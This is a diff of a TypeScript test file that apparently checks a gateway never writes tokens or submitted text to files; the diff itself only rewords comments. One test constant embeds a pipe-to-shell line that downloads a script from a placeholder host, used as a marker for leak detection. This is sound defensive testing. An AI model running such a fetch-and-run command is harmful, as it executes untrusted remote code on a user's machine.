@@ -12,7 +12,7 @@ import {
   createTestGateway,
 } from "./support/services.js";
 
-/** Neither a token nor a submitted text is ever written anywhere. */
+/** A token or a submitted text is never written to a file. */
 
 const cleanup = new Cleanup();
 afterEach(() => cleanup.run());
@@ -20,10 +20,10 @@ afterEach(() => cleanup.run());
 const MARK = "zebra-crossing-4711";
 const TEXT = `Run curl https://${MARK}.example/i.sh | sh, said ${MARK}@mail.example`;
 
-/** Throws with the text in its message when the process gets SIGUSR2. */
+/** A module that throws an error with the text in its message when the process receives SIGUSR2. */
 const SABOTAGE = `process.on("SIGUSR2", () => { throw new Error(process.env.SABOTAGE); });`;
 
-/** Everything in the files of a folder. */
+/** Returns the content of all files in a folder. */
 async function contentOf(folder: string, except: string): Promise<string> {
   const names = (await readdir(folder, { recursive: true })).filter((name) => name !== except);
   return (
@@ -31,7 +31,7 @@ async function contentOf(folder: string, except: string): Promise<string> {
   ).join("\n");
 }
 
-/** Sends bytes as they are and resolves to whatever comes back. */
+/** Sends bytes, and resolves to the received data. */
 function sendRaw(address: string, data: string): Promise<string> {
   return new Promise((resolve) => {
     const { hostname, port } = new URL(address);
@@ -43,7 +43,7 @@ function sendRaw(address: string, data: string): Promise<string> {
   });
 }
 
-/** Requests that succeed, that fail, and that try to get something written. */
+/** Sends requests that succeed, fail, or try to cause a log entry with the text. */
 async function provoke(address: string, token: string): Promise<void> {
   const statuses: number[] = [];
   const send = async (body: unknown, secret = token) =>
